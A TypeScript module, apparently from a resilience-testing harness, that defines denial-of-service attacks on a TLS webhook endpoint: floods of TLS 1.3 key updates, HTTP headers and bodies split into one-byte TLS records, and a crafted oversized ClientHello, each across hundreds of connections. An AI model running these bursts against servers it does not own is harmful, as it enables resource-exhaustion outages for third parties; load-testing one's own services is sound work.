/** What costs much below HTTP: records of TLS that carry little, on many connections at the same moment. */
import { once } from 'node:events';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from '../attacks.ts';
import { burst, head, requestOf } from '../load.ts';
import { type OwnRecords, openOwn } from '../own-records.ts';
import { reviewOf } from '../reviews.ts';

type Burst = { version: 'TLSv1.2' | 'TLSv1.3'; count: number; make: (records: OwnRecords) => Buffer[]; first?: Buffer };

/** Opens connections one after the other, and writes to all of them at once. */
const records = (name: string, { version, count, make, first }: Burst): Attack => ({
  name,
  run: async ({ webhook }) => {
    const made: { socket: OwnRecords['socket']; bytes: Buffer }[] = [];
    for (let i = 0; i < count; i++) {
      const own = await openOwn(webhook, version);
      if (own && first) await answered(own, first);
      if (own) made.push({ socket: own.socket, bytes: Buffer.concat(make(own)) });
    }
    for (const { socket, bytes } of made) socket.write(bytes);
    await sleep(5000);
    for (const { socket } of made) socket.destroy();
    return { opened: made.length };
  },
});

/** So that the connection is one of those that are known. */
async function answered({ socket, record }: OwnRecords, whole: Buffer): Promise<void> {
  socket.write(record(whole));
  await Promise.race([once(socket, 'data'), sleep(1000)]);
}

const single = (text: string) => (own: OwnRecords) =>
  Array.from(Buffer.from(text), (byte) => own.record(Buffer.from([byte])));

const body = single(head(6000) + ' '.repeat(3000));

const review = reviewOf();

const headers = (length: number) => `POST /mutate HTTP/1.1\r\na: ${'b'.repeat(length)}`;

/** A hello that says it is as long as can be, in records of a byte each. */
const hello = Buffer.concat([
  Buffer.from('160301000101160301000100160301000101160301000100', 'hex'),
  ...Array.from({ length: 60_000 }, () => Buffer.from('160301000100', 'hex')),
]).toString('latin1');

export const recordAttacks: Attack[] = [
  records('30,000 new keys of TLS 1.3 on each of 12 connections', {
    version: 'TLSv1.3',
    count: 12,
    make: (own) => Array.from({ length: 30_000 }, () => own.keyUpdate()),
  }),
  records('headers in records of a byte on 300 connections', {
    version: 'TLSv1.2',
    count: 300,
    make: single(headers(3000)),
  }),
  records('bodies in records of a byte on 300 connections', {
    version: 'TLSv1.2',
    count: 300,
    make: body,
  }),
  records('bodies in records of a byte on 250 connections that have asked before', {
    version: 'TLSv1.2',
    count: 250,
    make: body,
    first: requestOf(review),
  }),
  {
    name: 'the beginning of TLS in records of a byte on 300 connections',
    run: ({ webhook, now }) => burst({ url: webhook, now, count: 300, text: hello, plain: true }),
  },
];
